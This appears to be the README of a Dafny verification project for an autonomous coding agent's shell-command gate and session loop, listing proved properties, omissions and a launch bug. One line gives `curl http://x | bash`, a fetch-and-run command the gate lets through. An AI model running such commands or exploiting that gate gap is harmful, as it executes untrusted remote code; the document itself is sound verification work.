# HS-Agent session loop and command gate, in Dafny

This project models the core of HS-Agent, an autonomous-loop driver that runs
coding-agent sessions against a project one after another. It covers three
parts of the Python code.

- **The command gate** (`agent/security.py`). Every shell command the agent
  wants to run is checked in a fixed order:
  - a blank command is denied;
  - a command containing one of the blocked patterns (case-insensitively) is denied;
  - a command whose program name cannot be found is denied;
  - otherwise the command is allowed exactly when its program name is in the allowlist.

  The program name is found by skipping the leading `NAME=value` assignments
  and keeping the last `/`-separated piece of the next token. The Python
  string builtins the gate relies on are modelled in `PyStr`: `str.isspace`,
  `strip`, `split()`, `split("/")[-1]`, ASCII `lower`, substring `in`,
  `join` and `sorted`.
- **The pre-tool-use hook** `validate_bash_command` (`agent/client.py`). It
  lets non-Bash tools through, refuses an empty command, and relays the
  gate's refusal together with the sorted allowlist.
- **The session layer** (`agent/agent.py`):
  - `run_agent_session` folds the SDK's message stream into a status
    (`success`, `error` or `interrupted`) and the response text;
  - the marker file is a `Project` object whose one field says whether
    `.linear_project.json` exists;
  - `run_autonomous_agent` is a loop. It starts in initializer mode when
    the marker is missing, writes the marker after the first successful
    initializer session, retries after errors, and stops on an interrupt,
    after `init_only`, or at `max_iterations`.

  Each loop method is proved against a specification function (`Loop`,
  `SessionOutcome`), and the loop's properties are proved as lemmas about
  that function.

The entry point `agent/autonomous_agent.py` appears only from the call of
`run_autonomous_agent` on (`Launch`), because of the finding below.

Modules:
- `wrappers.dfy`: `Option`.
- `pystr.dfy`: `PyStr`.
- `security.dfy`: `Security`.
- `gate_scenarios.dfy`: `GateScenarios`, the docstring examples of `get_command_name`.
- `client.dfy`: `Client`.
- `agent.dfy`: `Agent`.
- `launch.dfy`: `Launch`.

How the environment is represented:
- The SDK session is given as the stream it would produce: `Stream`, a list
  of messages plus how the stream ends (normally, by `KeyboardInterrupt`, or
  by another exception with its text).
- The loop receives one `Turn` per session it may run. A `Turn` holds:
  - that session's stream;
  - whether the session's own tools created the marker file;
  - whether Ctrl+C arrives during the sleep that follows the session.

Three behaviours of the code worth stating explicitly:
- The mode is read from the marker file once, before the loop (agent/agent.py:113). After that it changes only when a first-run session succeeds (149-152). It is not recomputed each iteration, so a marker file written by a session's own tools does not switch the mode (`Agent.InitializerUntilFirstSuccess`).
- `run_autonomous_agent` has no `skip_init` parameter (see Findings).
- Blocked patterns are literal substrings. `curl http://x | bash` contains none of them, and `curl` is allowlisted, so the gate as written allows it.

## Model

| member | source | states |
|---|---|---|
| PyStr.StripLeading | agent/security.py:94 | the result is a suffix of the input, everything dropped is whitespace, and the result does not start with whitespace |
| PyStr.StripTrailing | agent/security.py:94 | the result is a prefix of the input, everything dropped is whitespace, and the result does not end with whitespace |
| PyStr.Strip | agent/security.py:94 | `s.strip()` is a slice of `s` with only whitespace before and after it, and it neither starts nor ends with whitespace |
| PyStr.StripEmptyIffBlank | agent/security.py:120 | `command.strip()` is empty exactly when the command is all whitespace |
| PyStr.TokenLength | agent/security.py:94 | the length of the leading run of non-whitespace characters, which ends at whitespace or at the end of the input |
| PyStr.Split | agent/security.py:94 | every piece of `split()` is non-empty and contains no whitespace; which pieces they are is stated by `PyStr.SplitSpaced` |
| PyStr.SplitBlank | agent/security.py:94 | a blank string splits into nothing |
| PyStr.SplitEmptyIffBlank | agent/security.py:94 | `split()` gives no tokens exactly when the string is blank |
| PyStr.SplitNonBlank | agent/security.py:94 | a non-blank string splits into at least one token |
| PyStr.TokenLengthAppend | agent/security.py:94 | text that starts with whitespace does not lengthen the first token |
| PyStr.SplitAppendBlank | agent/security.py:94 | trailing whitespace does not change the tokens |
| PyStr.SplitStripLeading | agent/security.py:94 | leading whitespace does not change the tokens |
| PyStr.SplitStrip | agent/security.py:94 | splitting after `strip()` gives the same tokens as splitting directly |
| PyStr.SplitPrependBlank | agent/security.py:94 | whitespace in front does not change the tokens |
| PyStr.SplitSpaced | agent/security.py:94 | tokens separated by any non-empty runs of whitespace, with any whitespace before and after them, split back into exactly those tokens |
| PyStr.Join | agent/client.py:66 | `sep.join(ts)` is the tokens with `sep` between each two of them and nothing after the last |
| PyStr.SplitJoin | agent/security.py:94 | splitting whitespace-free tokens joined by spaces gives the tokens back |
| PyStr.LastPiece | agent/security.py:100 | `s.split("/")[-1]` contains no separator, is a suffix of `s`, and is preceded by a separator unless it is all of `s` |
| PyStr.LastPieceWhole | agent/security.py:100 | a token without `/` is its own last piece |
| PyStr.LastPieceAfterSeparator | agent/security.py:100 | a directory prefix ending in `/` does not change the last piece |
| PyStr.Lower | agent/security.py:106-108 | lower-casing keeps the length |
| PyStr.Contains | agent/security.py:108 | substring `in`, scanning from the left, holds exactly when the pattern occurs at some position |
| PyStr.BelowIrreflexive | agent/security.py:142 | string order is irreflexive |
| PyStr.BelowTransitive | agent/security.py:142 | string order is transitive |
| PyStr.BelowTotal | agent/security.py:142 | any two different strings are ordered |
| PyStr.Insert | agent/security.py:142 | inserting into a strictly sorted list keeps it strictly sorted and adds exactly that element |
| PyStr.SortedDistinct | agent/security.py:142 | `sorted(set)` is strictly sorted with exactly the elements of the input |
| PyStr.StrictlySortedUnique | agent/security.py:142 | two strictly sorted lists with the same elements are equal |
| Security.FirstProgramToken | agent/security.py:95-98 | the token found is not an assignment and every token before it is one, and there is none exactly when every token is an assignment |
| PyStr.SpaceIsPythonWhitespace | agent/security.py:94 | the characters `IsSpace` accepts, and so the ones `strip()` and `split()` treat as whitespace, are exactly the 29 code points of Python's `str.isspace()` |
| Security.IsAssignment | agent/security.py:96 | definition: a token is skipped as an assignment when it contains `=` and does not start with `-`; what the skipping yields is stated by `Security.FirstProgramToken` |
| Security.GetCommandName | agent/security.py:84-101 | the extracted program name never contains `/` |
| Security.FirstBlockedPattern | agent/security.py:104-110 | the pattern reported is the first in list order whose lower-case form occurs in the lower-cased command, and none is reported exactly when no pattern occurs |
| Security.ScanPatterns | agent/security.py:104-110 | `contains_blocked_pattern` is true exactly when some pattern occurs case-insensitively, its reason then names the first pattern that occurs, and the reason is empty otherwise |
| Security.ContainsBlockedPattern | agent/security.py:104-110 | the same, for `BLOCKED_PATTERNS` |
| Security.Gate | agent/security.py:113-137 | a command is allowed exactly when the reason is empty, and exactly when it is non-blank, contains no blocked pattern, and names a non-empty program on the allowlist |
| Security.IsCommandAllowed | agent/security.py:113-137 | `is_command_allowed` allows a command exactly when it is non-blank, `contains_blocked_pattern` finds nothing, and its program name is in `ALLOWED_COMMANDS`; the reason is empty exactly when it allows |
| Security.GetAllowedCommandsList | agent/security.py:140-142 | the listing is strictly sorted and holds exactly the allowlisted commands |
| Security.EmptyCommandDenied | agent/security.py:120-121 | a blank command is denied with "Empty command", and only a blank command gets that reason |
| Security.FirstBlockedPatternAt | agent/security.py:107-109 | the first pattern in list order that occurs is the one reported |
| Security.BlockedPatternWins | agent/security.py:123-126 | a non-blank command with a blocked pattern is denied naming the first such pattern, whatever the allowlist |
| Security.AllowlistDecides | agent/security.py:128-137 | past the blank and pattern checks, the decision is "could not parse", allowed, or "not in allowlist", by the program name |
| Security.FirstProgramTokenAfter | agent/security.py:95-98 | leading assignments are skipped up to the first non-assignment |
| Security.CommandNameOf | agent/security.py:84-101 | for assignments, a program token and arguments separated by any runs of whitespace, with any whitespace around them, the name is the program token's last path piece |
| Security.CommandNameEmpty | agent/security.py:94-101 | no name is found exactly when every token is an assignment or the program token ends in `/` |
| Security.UnparsableDenied | agent/security.py:129-131 | a command past the first checks that names nothing is denied as unparsable |
| Security.PathPrefixKeepsName | agent/security.py:99-100 | a directory in front of the program does not change the program name |
| Security.PathPrefixKeepsDecision | agent/security.py:99-137 | a directory in front of the program does not change the gate's decision |
| Security.AllowedCommandsListUnique | agent/security.py:140-142 | the listing is the only strictly sorted list of the allowlist |
| GateScenarios.AssignmentPrefixSkipped | agent/security.py:90 | `NODE_ENV=test npm run` names `npm` |
| GateScenarios.MixedWhitespaceSkipped | agent/security.py:94-100 | ` FOO=1  npm\trun\n` names `npm`: runs of spaces, tabs and newlines all separate tokens |
| GateScenarios.AbsolutePathDropped | agent/security.py:91 | `/usr/bin/node script.js` names `node` |
| GateScenarios.TrailingSlashNamesNothing | agent/security.py:96-101 | `dir/ x` names nothing: its program token's last path piece is empty |
| Client.BlockMessage | agent/client.py:66 | the refusal message is "Command blocked: ", then the gate's reason, then ". Allowed commands: ", then the comma-separated listing, and nothing else |
| Client.Validate | agent/client.py:51-68 | non-Bash tools pass, a missing or empty command is refused with its own message, and a Bash call passes exactly when its command is present and the gate allows it |
| Client.ValidateBashCommand | agent/client.py:51-68 | with the source's allowlist and patterns, a Bash call passes exactly when `is_command_allowed` accepts its command, and a refused non-empty command gets the gate's reason and the sorted allowlist |
| Client.HookFollowsGate | agent/client.py:64-68 | for a non-empty Bash command the hook passes exactly what the gate allows and relays the gate's reason |
| Client.WhitespaceBlockedByGate | agent/client.py:60-66 | a non-empty all-whitespace command reaches the gate and is blocked as "Empty command" |
| Client.BlockedPatternReported | agent/client.py:64-66 | a command with a blocked pattern is refused with the first such pattern in the message |
| Client.BlockMessageShape | agent/client.py:57-68 | every refusal is the empty-command message or starts with "Command blocked: " |
| Agent.ReportsError | agent/agent.py:85 | definition: a result message whose error is present and non-empty, as Python's truth test on `message.error` reads it; what it decides is stated by `Agent.FirstError` and `Agent.SessionOutcome` |
| Agent.FirstError | agent/agent.py:83-87 | the error found is that of a result message that reports one with no such message before it, and there is none exactly when no message reports one |
| Agent.SessionOutcome | agent/agent.py:59-94 | a session succeeds exactly when no result reports an error and the stream ends normally, and then returns the assistant text; it is interrupted exactly when no result reports an error and Ctrl+C ends the stream, and then returns "User interrupted"; a result reporting an error makes it fail with the error of the first such result; with no such result, an exception ending the stream makes it fail with the exception's text |
| Agent.RunAgentSession | agent/agent.py:59-94 | the loops over messages and blocks compute the session outcome |
| Agent.CollectText | agent/agent.py:69-72 | the parts collected are the earlier ones followed by the text of the message's text blocks, in block order |
| Agent.TextOfAppend | agent/agent.py:68-72 | the response text of concatenated blocks is the concatenation of their texts |
| Agent.ToolBlocksAddNothing | agent/agent.py:69-81 | tool-use and tool-result blocks add nothing to the response |
| Agent.TextBlocksInOrder | agent/agent.py:70-72 | text blocks contribute their text in order |
| Agent.ErrorResultWins | agent/agent.py:83-87 | the first result reporting an error decides the session, whatever follows it |
| Agent.ResultPreview | agent/agent.py:77-80 | the preview is the result itself when it has at most 100 characters, and otherwise its first 100 characters followed by "..." |
| Agent.Project.constructor | agent/agent.py:32-35 | the project's marker state is the initial existence of the marker file, and `is_linear_initialized` then answers exactly that |
| Agent.Project.IsLinearInitialized | agent/agent.py:32-35 | definition: whether the marker file exists; the constructor and `MarkLinearInitialized` state what it answers |
| Agent.Project.MarkLinearInitialized | agent/agent.py:38-42 | after marking, the marker file exists and `is_linear_initialized` answers true |
| Agent.Loop | agent/agent.py:112-116 | a run from the start records one mode and one status per session, starts between 1 and max_iterations sessions (none when that is not positive), and each status is that session's outcome |
| Agent.LoopFrom | agent/agent.py:115-166 | the loop records one mode and one status per session started |
| Agent.Step | agent/agent.py:136-166 | the loop stops after a session exactly when it was interrupted, Ctrl+C came during the sleep, or an init-only first run succeeded; it escapes exactly when the stop follows a failed session; a continuing loop stays in first-run mode exactly when it was in it and the session failed |
| Agent.MarkerAfter | agent/agent.py:133-150 | a pass never removes the marker, writes it after a successful first-run session, and otherwise adds it only when the session's tools created it |
| Agent.LoopPass | agent/agent.py:129-166 | the loop from a head state with a session left to run records one mode and one status per session started from there |
| Agent.Pass | agent/agent.py:129-166 | one pass runs the session and breaks, retries or continues as its status says, writing the marker after a first-run success |
| Agent.RunAutonomousAgent | agent/agent.py:97-113 | starts in first-run mode exactly when the marker file is missing, and its sessions, modes, end and final marker are those of `Loop` |
| Agent.Sessions | agent/agent.py:115-166 | the while loop's sessions, modes, end and final marker are those of `LoopFrom` from session 1 in the given mode |
| Agent.BoundFrom | agent/agent.py:115-116 | from any head state, no session starts past the bound |
| Agent.StatusesFrom | agent/agent.py:129-133 | from any head state, each recorded status is that session's outcome |
| Agent.ModesFrom | agent/agent.py:122-127 | from any head state, the initializer mode lasts exactly until the first success |
| Agent.InitializerUntilFirstSuccess | agent/agent.py:113-152 | sessions use the initializer prompt exactly until the first success, and only if the marker was missing at the start |
| Agent.MarkerMeansCoding | agent/agent.py:113-127 | with the marker file present at the start, every session is a coding session |
| Agent.InterruptFrom | agent/agent.py:137-139 | from any head state, an interrupted session is the last |
| Agent.InterruptEnds | agent/agent.py:137-139 | an interrupted session is the last one and the loop ends normally |
| Agent.EscapeFrom | agent/agent.py:141-145 | from any head state, an escape happens only in the sleep after a failed session |
| Agent.EscapeOnlyAfterError | agent/agent.py:141-145 | a Ctrl+C escapes the loop only during the sleep after a failed last session |
| Agent.RetryFrom | agent/agent.py:141-145 | from any head state, a failed session is followed by one in the same mode |
| Agent.ErrorRetries | agent/agent.py:141-145 | a failed session is retried in the same mode unless it was the last allowed or Ctrl+C came during the sleep |
| Agent.MarkerFrom | agent/agent.py:149-150 | from any head state, the loop itself never removes the marker, and the marker is set after a successful initializer session |
| Agent.MarkerCauseFrom | agent/agent.py:149-150 | from any head state, the marker appears only through a successful initializer session or a session's own tools |
| Agent.MarkerOutcome | agent/agent.py:149-150 | the loop itself never removes the marker file; the file is written after a successful initializer session, and appears in no other way except through a session's tools |
| Agent.InitOnlyFrom | agent/agent.py:149-156 | from any head state under init_only, a successful initializer session is the last |
| Agent.InitOnlyStops | agent/agent.py:149-156 | with init_only, the loop ends normally right after the first successful initializer session |
| Agent.CodingIgnoresInitOnlyFrom | agent/agent.py:149-156 | in coding mode the loop runs the same with or without init_only |
| Agent.InitOnlyIgnoredWhenInitialized | agent/agent.py:149-156 | with the marker present at the start, init_only changes nothing |
| Launch.LaunchWith | agent/autonomous_agent.py:100-115 | an unexpected keyword exits with status 1 and runs nothing; otherwise the loop runs and the exit status is 0 |
| Launch.SkipInitRejected | agent/autonomous_agent.py:102-108 | as written, every launch exits with status 1 and runs no session |
| Launch.CorrectedRunsLoop | agent/autonomous_agent.py:100-112 | corrected, a launch without `--skip-init` runs `run_autonomous_agent` as written and exits with 0 |
| Launch.CorrectedAnnouncedMode | agent/autonomous_agent.py:86-95 | corrected, the first session runs in the mode main announces |
| Launch.SkipInitCodesOnly | agent/autonomous_agent.py:55-58 | corrected, `--skip-init` runs only coding sessions, never writes the marker itself, and ignores `--init-only` |

## Left out

- `print` output, the sleep durations (`AUTO_CONTINUE_DELAY_SECONDS`, the 10-second retry wait) and `asyncio` scheduling are not modelled. Only whether Ctrl+C arrives during a sleep is kept.
- `create_client` and the SDK connection are not modelled. A session is the stream it would produce. An exception raised by `create_client` itself (agent/agent.py:57, outside the `try`) is not modelled.
- The prompt texts (agent/prompts.py) and the Linear configuration (agent/linear_config.py) are not modelled. The prompt is represented only by the mode that selects it.
- `create_client`'s options and the hook registration (agent/client.py:70-135) are not modelled; only `validate_bash_command` is.
- Argument parsing, `.env` loading, the environment-variable check and the project-directory check of `main` (agent/autonomous_agent.py:25-84) are not modelled.
- The marker file's content and directory creation (agent/agent.py:41-42) are not modelled. Only its existence is.
- PyStr.Lower: only ASCII letters are lower-cased. Python also maps a few other characters onto ASCII letters, for example the Kelvin sign onto `k`. The source therefore blocks a command that spells a blocked pattern with such characters, and the model does not.
- Client.Validate: `tool_input["command"]` is taken to be a string. Other Python values and their truthiness are not modelled.
- Agent.RunAgentSession: tool-result content is taken to be text, and `str()` of other values is not modelled. The error of a result message is a string, and an exception's text is given as its message.
- Agent.RunAutonomousAgent: requires one `Turn` per session it may start (`max_iterations <= |turns|`). The turns stand for the environment's behaviour, not a restriction of the source.
- Agent.SessionOutcome: the `Interrupted` outcome, and the loop's stop on Ctrl+C during the auto-continue sleep, rest on Ctrl+C arriving as `KeyboardInterrupt` at the `except` clauses of agent/agent.py:91 and 164. Under `asyncio.run`, newer Python versions may instead cancel the running task, raising `CancelledError`, which neither clause nor `except Exception` catches. That path is not modelled.
- Agent.MarkerOutcome: a session's own tools can also delete the marker file (for example with `find … -delete`). That is not modelled: a `Turn` records only whether the session created the file.
- Launch.LaunchWith: two failures escape `run_autonomous_agent` and are not modelled. Loading a prompt raises `FileNotFoundError` when its file is missing (agent/prompts.py:20-21), and it runs outside `run_agent_session`'s `try`. Writing the marker file can fail (agent/agent.py:40-42). Both reach the `except Exception` at agent/autonomous_agent.py:113, and `main` then exits with status 1.
- Agent.LoopFrom: running out of turns also ends the record. A run from the start never gets there.
- GateScenarios: only name-extraction examples are proved on concrete strings. Full gate decisions on concrete commands are stated generally (`Security.BlockedPatternWins`, `Security.AllowlistDecides`).

## Findings

| source | as written | input that shows it | evidently intended | confidence | as-written member | corrected member |
|---|---|---|---|---|---|---|
| agent/autonomous_agent.py:102-108 | `main` passes `skip_init=args.skip_init` to `run_autonomous_agent`, which declares only `project_dir`, `model`, `max_iterations` and `init_only` (agent/agent.py:97-102). The call raises `TypeError`, which the `except Exception` at line 113 reports as a fatal error with exit status 1 | any invocation, e.g. `python autonomous_agent.py` with `LINEAR_API_KEY` set and no flags | `run_autonomous_agent` accepts `skip_init` and starts in coding mode when it is set, as main announces at lines 86-95 | not executed | Launch.SkipInitRejected | Launch.SkipInitCodesOnly |
